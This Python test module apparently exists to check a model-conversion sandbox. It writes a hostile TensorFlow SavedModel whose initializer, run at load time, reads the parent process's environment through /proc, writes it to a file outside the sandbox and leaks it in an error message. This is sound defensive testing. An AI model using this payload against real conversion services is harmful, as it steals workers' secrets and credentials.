"""Models built to attack the worker that converts them, for the sandbox tests.

Run as ``python -m tests.hostile_models OUT_DIR ESCAPE_PATH``: it writes
``OUT_DIR/loader_attack/`` (a SavedModel) and prints ``saved``. TensorFlow runs a
SavedModel's resource initializers while loading it, which the TFLite converter does:
this one reads its parent's environment through ``/proc/<ppid>/environ`` (so an
allow-listed child environment alone would not protect the worker's secrets), writes
what it found to ``ESCAPE_PATH`` (outside any scratch folder) and then raises with it,
so the secret would travel back in the converter's error message.
"""

from __future__ import annotations

import os
import sys

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")


def loader_attack(out: str, escape_path: str) -> None:
    import tensorflow as tf

    class Attack(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(dtype=tf.string, shape=[], shared_name="attack")

        def _initialize(self):
            status = tf.io.read_file("/proc/self/status")
            ppid = tf.strings.regex_replace(status, r"(?s).*\nPPid:\s*(\d+)\n.*", r"\1")
            found = tf.io.read_file(tf.strings.join(["/proc/", ppid, "/environ"]))
            tf.io.write_file(escape_path, found)
            tf.debugging.Assert(tf.equal(tf.strings.length(found), -1), [found], summarize=99)
            return tf.raw_ops.AssignVariableOp(resource=self.resource_handle, value=found)

    class Model(tf.Module):
        def __init__(self):
            self.attack = Attack()

        @tf.function(input_signature=[tf.TensorSpec([1, 32, 32, 3], tf.float32)])
        def serve(self, x):
            return {"y": x * 2.0}

    model = Model()
    tf.saved_model.save(model, out, signatures={"serving_default": model.serve})


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit("usage: python -m tests.hostile_models OUT_DIR ESCAPE_PATH")
    loader_attack(os.path.join(sys.argv[1], "loader_attack"), sys.argv[2])
    print("saved")
